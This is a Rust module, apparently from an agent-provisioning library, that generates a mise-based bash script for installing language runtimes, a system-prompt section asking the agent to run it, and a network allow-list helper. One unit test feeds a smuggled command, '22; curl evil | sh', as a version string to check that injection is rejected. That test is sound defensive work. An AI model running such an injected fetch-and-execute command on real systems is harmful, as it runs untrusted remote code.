//! Runtime bootstrap: the shell script (and the system-prompt section around it) that installs an environment's
//! declared [`Runtime`]s with [mise](https://mise.jdx.dev), and the hosts that script must reach.
//!
//! Managed Agents environments have no notion of language runtimes: the runtimes of an [`EnvironmentSpec`] count
//! in its digest but never reach the wire. Instead [`ClaudeProvisioner::ensure_environment`] returns a
//! [`Bootstrap`] on the environment it ensured (recomputed on every call, never stored): put
//! [`Bootstrap::instructions`] in the agent's system prompt (or run [`Bootstrap::script`] yourself) and the agent
//! installs the runtimes once, the first time it needs them. When the environment's networking is limited, the
//! hosts the script needs ([`MISE_HOSTS`]) are added to its allowed hosts.
//!
//! [`ClaudeProvisioner::ensure_environment`]: crate::provision::ClaudeProvisioner::ensure_environment

use managed_agents_core::{EnvironmentSpec, Error, Runtime};
use serde_json::{Value, json};

/// The hosts the bootstrap script downloads from (mise itself, its version index, runtime builds on GitHub, and
/// the hex.pm builds Elixir needs), sorted.
pub const MISE_HOSTS: &[&str] = &[
    "builds.hex.pm",
    "github.com",
    "mise-versions.jdx.dev",
    "mise.jdx.dev",
    "objects.githubusercontent.com",
    "repo.hex.pm",
];

/// The line that marks the bootstrap's additions to `~/.bashrc`, so running the script again adds nothing.
pub const BASHRC_MARKER: &str = "# managed-agents runtime bootstrap";

/// How to install an environment's runtimes: a bash script and a system-prompt section embedding it. Both are
/// deterministic functions of the runtimes.
#[derive(Debug, Clone, PartialEq, Eq)]
#[non_exhaustive]
pub struct Bootstrap {
    /// The bash script: strict mode, UTF-8 locale, mise installed when missing, one `mise use --global` per
    /// runtime, `mise install`, and PATH and locale appended once to `~/.bashrc`. Safe to run again.
    pub script: String,
    /// A Markdown section for the system prompt naming the runtimes and asking the agent to run the script once,
    /// with bash, before it first needs them.
    pub instructions: String,
}

impl Bootstrap {
    /// The bootstrap for `runtimes`; `None` when there are none. Each runtime is checked as
    /// [`EnvironmentSpec::validate`] checks it (their versions reach a shell): a bad one is an
    /// [`Error::InvalidSpec`].
    pub fn for_runtimes(runtimes: &[Runtime]) -> Result<Option<Self>, Error> {
        if runtimes.is_empty() {
            return Ok(None);
        }
        runtimes.iter().cloned().fold(EnvironmentSpec::new(), EnvironmentSpec::runtime).validate()?;
        let script = script(&mise_specs(runtimes));
        let declared: Vec<String> = runtimes.iter().map(|r| format!("{} {}", r.lang, r.version)).collect();
        let instructions = format!(
            "## Runtime bootstrap\n\n\
             The environment declares these runtimes: {}. They are not installed yet. Before the first command \
             that needs one of them, run the script below once, with bash. It installs mise and the runtimes and \
             records PATH and the locale in ~/.bashrc for later commands; running it again changes nothing but \
             costs time.\n\n```bash\n{}\n```\n",
            declared.join(", "),
            script.trim_end()
        );
        Ok(Some(Self { script, instructions }))
    }
}

/// The `tool@version` mise installs for each runtime: Erlang first, then Elixir (built for the declared Erlang's
/// major version when there is one: `elixir@<v>-otp-<major>`), then the others in the order given.
pub(crate) fn mise_specs(runtimes: &[Runtime]) -> Vec<String> {
    let erlang = runtimes.iter().find(|r| r.lang == "erlang");
    let otp = erlang.map(|r| r.version.split('.').next().unwrap_or(&r.version).to_string());
    let mut specs = Vec::new();
    if let Some(erlang) = erlang {
        specs.push(format!("erlang@{}", erlang.version));
    }
    if let Some(elixir) = runtimes.iter().find(|r| r.lang == "elixir") {
        specs.push(match &otp {
            Some(major) => format!("elixir@{}-otp-{major}", elixir.version),
            None => format!("elixir@{}", elixir.version),
        });
    }
    specs.extend(
        runtimes
            .iter()
            .filter(|r| r.lang != "erlang" && r.lang != "elixir")
            .map(|r| format!("{}@{}", r.lang, r.version)),
    );
    specs
}

fn script(specs: &[String]) -> String {
    const PATHS: &str = "export PATH=\"$HOME/.local/bin:$HOME/.local/share/mise/shims:$PATH\"";
    const LOCALE: &str = "export LANG=C.UTF-8 LC_ALL=C.UTF-8";
    let mut lines = vec![
        "#!/usr/bin/env bash".to_string(),
        "# Installs the environment's runtimes with mise. Safe to run again.".to_string(),
        "set -euo pipefail".to_string(),
        LOCALE.to_string(),
        "if ! command -v mise >/dev/null 2>&1 && [ ! -x \"$HOME/.local/bin/mise\" ]; then".to_string(),
        "  curl -fsSL https://mise.jdx.dev/install.sh | sh".to_string(),
        "fi".to_string(),
        PATHS.to_string(),
    ];
    lines.extend(specs.iter().map(|spec| format!("mise use --global {spec}")));
    lines.push("mise install".to_string());
    lines.push(format!("if ! grep -qF '{BASHRC_MARKER}' \"$HOME/.bashrc\" 2>/dev/null; then"));
    lines.push("  {".to_string());
    for line in [BASHRC_MARKER, PATHS, LOCALE] {
        lines.push(format!("    echo '{line}'"));
    }
    lines.push("  } >> \"$HOME/.bashrc\"".to_string());
    lines.push("fi".to_string());
    let mut script = lines.join("\n");
    script.push('\n');
    script
}

/// Adds [`MISE_HOSTS`] to a limited environment `config`'s `networking.allowed_hosts` (keeping the hosts already
/// there first, adding each missing one once). A config without limited networking is left alone.
pub(crate) fn allow_mise_hosts(config: &mut Value) {
    let Some(networking) = config.get_mut("networking").and_then(Value::as_object_mut) else { return };
    if networking.get("type").and_then(Value::as_str) != Some("limited") {
        return;
    }
    let hosts = networking.entry("allowed_hosts").or_insert_with(|| json!([]));
    let Some(hosts) = hosts.as_array_mut() else { return };
    for host in MISE_HOSTS {
        if !hosts.iter().any(|h| h.as_str() == Some(host)) {
            hosts.push(json!(host));
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn erlang_comes_first_and_elixir_follows_its_major() {
        let runtimes =
            [Runtime::new("python", "3.12"), Runtime::new("elixir", "1.17.3"), Runtime::new("erlang", "27.1")];
        assert_eq!(mise_specs(&runtimes), ["erlang@27.1", "elixir@1.17.3-otp-27", "python@3.12"]);
        assert_eq!(mise_specs(&[Runtime::new("elixir", "1.17.3")]), ["elixir@1.17.3"]);
    }

    #[test]
    fn the_script_is_deterministic_and_refuses_what_would_reach_a_shell() {
        let runtimes = [Runtime::new("node", "22")];
        let one = Bootstrap::for_runtimes(&runtimes).unwrap().unwrap();
        assert_eq!(Some(one.clone()), Bootstrap::for_runtimes(&runtimes).unwrap());
        assert!(one.script.starts_with("#!/usr/bin/env bash\n") && one.script.contains("set -euo pipefail"));
        assert!(one.script.contains("mise use --global node@22\nmise install\n"));
        assert!(one.instructions.contains("node 22") && one.instructions.contains(one.script.trim_end()));
        assert_eq!(Bootstrap::for_runtimes(&[]).unwrap(), None);
        assert!(Bootstrap::for_runtimes(&[Runtime::new("node", "22; curl evil | sh")]).is_err());
    }

    #[test]
    fn limited_networking_gets_the_mise_hosts_once() {
        let mut config =
            json!({"type": "cloud", "networking": {"type": "limited", "allowed_hosts": ["github.com", "a.example"]}});
        allow_mise_hosts(&mut config);
        allow_mise_hosts(&mut config);
        let hosts = config["networking"]["allowed_hosts"].as_array().unwrap();
        assert_eq!(hosts[..2], [json!("github.com"), json!("a.example")]);
        assert_eq!(hosts.len(), 2 + MISE_HOSTS.len() - 1);
        let mut open = json!({"type": "cloud", "networking": {"type": "unrestricted"}});
        allow_mise_hosts(&mut open);
        assert_eq!(open, json!({"type": "cloud", "networking": {"type": "unrestricted"}}));
    }
}
